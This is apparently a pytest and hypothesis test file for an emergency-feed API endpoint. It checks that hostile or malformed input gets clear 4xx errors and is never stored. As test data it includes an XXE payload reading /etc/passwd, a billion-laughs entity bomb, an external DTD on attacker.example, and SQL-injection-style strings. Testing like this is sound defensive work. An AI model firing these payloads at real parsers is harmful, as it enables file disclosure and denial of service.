"""Hostile and broken input through the HTTP endpoint: clear 4xx answers, never a 500, nothing
stored; hypothesis drives every data schema (and mangled envelopes) through the real route."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from command_center.app import create_app
from infra.db.models import FeedReceiptRow
from infra.runtime import Runtime
from infra.settings import Settings
from streams.domain import Domain
from streams.schemas import REGISTRY
from tests.intake.jsonschema_strategy import from_schema
from tests.support import DESIGN_EXAMPLE, make_key

LIMIT = 256 * 1024
CAP12 = "urn:oasis:names:tc:emergency:cap:1.2"
ALERT = (
    f'<alert xmlns="{CAP12}"><identifier>X</identifier><sender>s</sender>'
    "<sent>2023-07-31T08:00:00+08:00</sent><status>Actual</status><msgType>Alert</msgType>"
    "<scope>Public</scope>"
)


class Api:
    def __init__(self, runtime: Runtime, client: TestClient) -> None:
        self.runtime = runtime
        self.client = client
        self.key = make_key(runtime, "fire", list(Domain))

    def post(
        self,
        body: bytes | Any,
        domain: str = "incident",
        content_type: str = "application/json",
        query: str = "",
    ) -> Any:
        content = body if isinstance(body, bytes) else json.dumps(body).encode()
        answer = self.client.post(
            f"/api/v1/feeds/{domain}{query}",
            content=content,
            headers={"X-API-Key": self.key, "Content-Type": content_type},
        )
        assert answer.status_code < 500, answer.text
        if answer.status_code != 202:
            error = answer.json()["error"]
            assert error["code"] and error["message"], answer.text
        return answer

    def receipts(self) -> int:
        with self.runtime.sessions() as session:
            return int(session.scalar(select(func.count(FeedReceiptRow.event_id))) or 0)


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
    data_dir: Path = tmp_path_factory.mktemp("hostile")
    runtime = Runtime.open(Settings(data_dir=data_dir, max_body_bytes=LIMIT, max_batch_events=50))
    with TestClient(create_app(runtime)) as client:
        yield Api(runtime, client)
    runtime.close()


def event(**changes: Any) -> dict[str, Any]:
    return copy.deepcopy(DESIGN_EXAMPLE) | changes


def details_of(answer: Any) -> list[dict[str, Any]]:
    return list(answer.json()["error"]["details"])


@pytest.mark.parametrize(
    ("name", "document"),
    [
        (
            "xxe",
            '<?xml version="1.0"?><!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            f"{ALERT}<note>&xxe;</note></alert>",
        ),
        (
            "billion_laughs",
            '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
            + "".join(
                f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10 if n > 1 else "&lol;" * 10}">'
                for n in range(1, 10)
            )
            + f"]>{ALERT}<note>&lol9;</note></alert>",
        ),
        ("external_dtd", f'<!DOCTYPE alert SYSTEM "http://attacker.example/x.dtd">{ALERT}</alert>'),
        ("deep_xml", "<a>" * 100_000 + "</a>" * 100_000),
        ("not_xml", "this is not xml"),
    ],
)
def test_hostile_xml_is_refused_unparsed(api: Api, name: str, document: str) -> None:
    before = api.receipts()
    answer = api.post(document.encode(), "warning", "application/cap+xml")
    assert answer.status_code in (400, 413), (name, answer.text)
    assert "root:" not in answer.text  # nothing of /etc/passwd leaks back
    assert api.receipts() == before


@pytest.mark.parametrize(
    ("body", "status", "where"),
    [
        (b"", 400, None),
        (b'{"source_id": ', 400, None),
        (b"\xff\xfe\x00{", 400, None),
        (b"[" * 50_000 + b"]" * 50_000, 400, None),
        (b"[]", 422, None),
        (b"[1, 2]", 422, [0]),
        (json.dumps(event()).replace("115.974", "NaN").encode(), 400, None),
        (json.dumps(event()).replace("115.974", "Infinity").encode(), 400, None),
        (json.dumps(event()).replace("115.974", "1e999").encode(), 422, [0, "geometry"]),
        (
            json.dumps(event()).replace('"people_trapped": 6', '"people_trapped": 1e999').encode(),
            422,
            [0, "data", "people_trapped"],
        ),
    ],
)
def test_unreadable_json(api: Api, body: bytes, status: int, where: list[Any] | None) -> None:
    answer = api.post(body)
    assert answer.status_code == status, answer.text
    if where is not None:
        assert any(d["loc"][: len(where)] == where for d in details_of(answer)), answer.text


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"occurred_at": ["2023-07-31"]}, "occurred_at"),
        ({"occurred_at": "2023-07-31T08:12:00"}, "occurred_at"),  # no zone
        ({"occurred_at": "yesterday"}, "occurred_at"),
        ({"source_id": ""}, "source_id"),
        ({"source_id": "x" * 201}, "source_id"),
        ({"type": "call; DROP TABLE events"}, "type"),
        ({"type": "volcano"}, "type"),
        ({"geometry": "POINT(1 2)"}, "geometry"),
        ({"geometry": {"type": "Point", "coordinates": [200.0, 39.0]}}, "geometry"),
        ({"geometry": {"type": "Point", "coordinates": [115.9, 139.0]}}, "geometry"),
        ({"geometry": {"type": "Point", "coordinates": ["115", "39"]}}, "geometry"),
        ({"geometry": {"type": "Point", "coordinates": [True, 39.0]}}, "geometry"),
        ({"geometry": {"type": "Circle", "coordinates": [115.9, 39.0]}}, "geometry"),
        ({"geometry": {"type": "Polygon", "coordinates": [[[0, 0]] * 100_001]}}, None),
        ({"crs": "EPSG:999999"}, "geometry"),
        ({"crs": "x" * 40}, "crs"),
        ({"severity": "apocalyptic"}, "severity"),
        ({"data": []}, "data"),
        ({"data": {"channel": "119", "category": "rescue", "people_trapped": -1}}, "data"),
        ({"data": {"channel": "119", "category": "rescue", "people_trapped": "six"}}, "data"),
        ({"data": {"channel": "119", "category": "rescue", "sql": "1; --"}}, "data"),
        ({"data": {"channel": "119", "category": "rescue", "description": "水" * 20_000}}, "data"),
        ({"source_id": "lone \ud800 surrogate"}, "source_id"),
        ({"extra": True}, "extra"),
        ({"agency": "public-security"}, "agency"),
        ({"event_id": "00000000-0000-0000-0000-000000000000"}, "event_id"),
    ],
)
def test_wrong_fields_are_named(api: Api, changes: dict[str, Any], field: str | None) -> None:
    before = api.receipts()
    answer = api.post([event(source_id="good-neighbour"), event(**changes)])
    assert answer.status_code in (413, 422), answer.text
    if answer.status_code == 422:
        error = answer.json()["error"]
        assert "nothing was accepted" in error["message"]
        if field is not None:
            assert any(d["loc"][:2] == [1, field] for d in error["details"]), error
            assert field in error["message"]
    assert api.receipts() == before


def test_limits_and_media_types(api: Api) -> None:
    too_long = api.post(
        event(data={"channel": "119", "category": "rescue", "description": "水" * 100_000})
    )
    assert too_long.status_code == 413 and too_long.json()["error"]["code"] == "payload_too_large"
    batch = api.post([event(source_id=f"b-{n}") for n in range(51)])
    assert batch.status_code == 413 and "at most 50" in batch.json()["error"]["message"]
    media = api.post(b"<a/>", content_type="text/plain")
    assert media.status_code == 415 and media.json()["error"]["details"][0]["loc"][-1] == (
        "content-type"
    )
    unknown = api.post(event(), domain="volcano")
    assert unknown.status_code == 404 and "incident" in unknown.json()["error"]["message"]
    geo = api.post({"type": "FeatureCollection", "features": []}, "warning", "application/geo+json")
    assert geo.status_code == 422 and details_of(geo)[0]["loc"] == ["query", "profile"]
    profile = api.post(
        {"type": "FeatureCollection", "features": []},
        "warning",
        "application/geo+json",
        "?profile=emsc",
    )
    assert profile.status_code == 422 and "usgs-earthquakes" in profile.text


def test_the_design_example_is_accepted_after_all_that(api: Api) -> None:
    answer = api.post(event(source_id="after-hostile"))
    assert answer.status_code == 202 and answer.json()["accepted"] == 1


# --- hypothesis: every data schema, and mangled envelopes, through the endpoint ------------------

TYPES = sorted((domain.value, kind) for domain, models in REGISTRY.items() for kind in models)
POINTS = st.tuples(st.floats(113.5, 119.8), st.floats(36.0, 42.6)).map(
    lambda p: {"type": "Point", "coordinates": [round(p[0], 5), round(p[1], 5)]}
)


@st.composite
def typed_events(draw: st.DrawFn) -> tuple[str, dict[str, Any]]:
    domain, kind = draw(st.sampled_from(TYPES))
    model = REGISTRY[Domain(domain)][kind]
    data = draw(from_schema(model.model_json_schema()))
    envelope = {
        "source_id": f"fuzz-{draw(st.uuids()).hex}",
        "type": kind,
        "occurred_at": "2023-07-31T08:12:00+08:00",
        "geometry": draw(st.none() | POINTS),
        "data": data,
    }
    return domain, envelope


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(typed_events())
def test_every_schema_through_the_endpoint(api: Api, case: tuple[str, dict[str, Any]]) -> None:
    domain, envelope = case
    answer = api.post(envelope, domain)
    # Schema-shaped data is accepted unless a cross-field rule (e.g. a warning level above the
    # guaranteed level) refuses it, and then the refusal names data.
    assert answer.status_code in (202, 422), answer.text
    if answer.status_code == 422:
        assert all(d["loc"][1] == "data" for d in details_of(answer)), answer.text


JSON = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**70), 2**70) | st.floats() | st.text(max_size=30),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=4)
    ),
    max_leaves=25,
)


@st.composite
def mangled(draw: st.DrawFn) -> Any:
    envelope: dict[str, Any] = copy.deepcopy(DESIGN_EXAMPLE)
    envelope["source_id"] = f"mangled-{draw(st.uuids()).hex}"
    for _ in range(draw(st.integers(1, 3))):
        target = envelope
        if draw(st.booleans()):
            target = envelope["data"] if isinstance(envelope.get("data"), dict) else envelope
        name = draw(st.sampled_from([*sorted(target), "unexpected"]))
        target[name] = draw(JSON)
    return draw(st.sampled_from([envelope, [envelope], [envelope, envelope]]))


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mangled())
def test_mangled_envelopes_never_crash(api: Api, body: Any) -> None:
    text = json.dumps(body, allow_nan=True).encode()
    answer = api.post(text)
    assert answer.status_code in (202, 400, 422), answer.text
